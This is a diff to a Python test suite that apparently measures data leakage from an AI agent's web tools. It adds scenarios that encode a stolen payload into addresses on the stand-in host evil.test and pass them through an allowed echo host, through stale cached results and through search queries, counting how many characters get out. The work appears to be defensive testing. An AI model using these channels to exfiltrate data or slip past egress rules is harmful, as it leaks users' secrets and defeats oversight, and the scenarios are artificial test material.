@@ -15,6 +15,8 @@ from tests.pipeline.lookup.library_card import DOCS, SECRET
 STOLEN = "".join(f"def f{n}(): return {n * 7919 % 1000}\n" for n in range(2_000))
 PACKED = base64.b32encode(STOLEN.encode()).decode().lower().rstrip("=")
 """As it goes into an address or a word."""
+EVIL = "https://evil.test/"
+ECHO = "https://docs.test/echo?q="
 OPEN = "https://docs.test/go?to="
 LETTERS = "abcdefghijklmnopqrstuvwxyz234567"
 Ask = Mapping[str, Any]
@@ -31,6 +33,8 @@ class Way:
     pages: Mapping[str, str] = field(default_factory=dict)
     killed: bool = False
     """The process dies after each."""
+    stale: bool = False
+    """What was kept is old when it is asked for again."""
     agents: int = 1
     out: int = 0
     """Characters that get out, to a host that the operator chose; 0 at every other."""
@@ -100,6 +104,20 @@ WAYS = (
         in_addresses(lambda t: f"https://{t}.docs.test/", 60), rules=HOSTS_BELOW, out=60 * 60),
     Way("an address that the agent wrote into a file and an answer",
         in_addresses(lambda t: f"https://evil.test/made/{t}", 200)),
+    Way("an address that an allowed host says back",
+        [ask for t in pieces(100, 40) for ask in ((({"source": f"{ECHO}{EVIL}{t}"}), t),
+                                                  ({"source": f"{EVIL}{t}"}, ""))],
+        rules=ALLOWED, out=40 * 100),
+    Way("the same, found among what is kept, by another run",
+        [ask for t in pieces(100, 20) for ask in (({"source": f"{ECHO}{EVIL}{t}"}, t),
+                                                  ({"query": t}, ""),
+                                                  ({"source": f"{ECHO}{EVIL}{t}"}, ""),
+                                                  ({"source": f"{EVIL}{t}"}, ""))],
+        rules=ALLOWED, stale=True, out=20 * 100),
+    Way("an address that the search says back",
+        [ask for t in pieces(100, 30) for ask in (({"query": f"{EVIL}{t}"}, f"{EVIL}{t}"),
+                                                  ({"source": f"{EVIL}{t}"}, ""))],
+        out=20 * (len(EVIL) + 100)),
     Way("the choice among 2,560 links of a hostile page",
         [({"source": DOCS}, ""),
          *(({"source": f"https://evil.test/{n}{c}"}, c) for n, c in enumerate(PACKED[:80]))],
